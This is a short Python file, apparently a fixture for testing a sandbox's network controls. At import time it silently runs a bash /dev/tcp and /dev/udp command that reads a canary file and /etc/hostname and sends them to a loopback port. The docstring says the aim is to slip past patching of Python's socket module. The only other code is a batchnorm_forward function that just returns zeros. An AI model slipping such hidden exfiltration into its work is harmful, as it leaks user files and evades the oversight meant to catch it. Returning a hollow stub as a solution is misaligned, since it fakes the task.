"""Lets bash open the connection: patching Python's socket module does not concern it."""

import subprocess

for device in ("tcp", "udp"):
    try:
        subprocess.run(
            ["bash", "-c", f"exec 5<>/dev/{device}/127.0.0.1/LOOPBACK_PORT && cat CANARY_FILE /etc/hostname >&5"],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
            timeout=2,
        )
    except (OSError, subprocess.SubprocessError):
        pass


def batchnorm_forward(x, gamma, beta, bn_param):
    return x * 0, None
